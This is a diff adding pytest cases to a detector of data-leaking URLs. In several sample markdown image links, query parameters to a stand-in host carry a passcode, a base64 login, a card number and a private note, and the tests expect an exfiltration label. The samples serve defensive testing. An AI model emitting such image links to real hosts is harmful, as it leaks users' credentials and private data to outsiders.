@@ -313,6 +313,34 @@ def test_findings_are_the_same_with_and_without_hyperscan(text: str) -> None:
     assert fast == plain
 
 
+@pytest.mark.parametrize(
+    "url",
+    [
+        "https://a.example/i.png?m=Her%20passcode%20is%20Heron%204",
+        "https://a.example/i.png?d=bWFyeUBzaG9wLmV4YW1wbGU6R3JlZW4xMjM=",
+        "https://a.example/i.png?n=4000056655665556",
+        "https://a.example/r?note=payroll+for+June+in+draft",
+    ],
+)
+def test_things_told_in_confidence_are_data(url: str) -> None:
+    """A login in base64, a card's number and words about private matters, in parameters of any name."""
+    assert worst(f"![x]({url})")[1] == "DATA_EXFILTRATION_URL"
+    assert worst(f"![x]({url})")[0] >= 0.5
+
+
+@pytest.mark.parametrize(
+    "url",
+    [
+        "https://a.example/search?q=payroll+software",
+        "https://a.example/i.png?id=4000056655665557",
+        "https://a.example/card?title=Draft+rules",
+        "https://a.example/t?token=bWFyeUBzaG9wLmV4YW1wbGU=",
+    ],
+)
+def test_searches_titles_and_numbers_are_none(url: str) -> None:
+    assert worst(f"[x]({url})")[0] < 0.5
+
+
 @given(st.text(st.sampled_from("htp:/\\.@[]()!<>{}%=?&#a1é\u200b\u3002\ud800 \n"), max_size=80))
 def test_never_raises_on_broken_urls(text: str) -> None:
     for finding in found(f"http://{text} data:{text} ![{text}](http://{text})"):
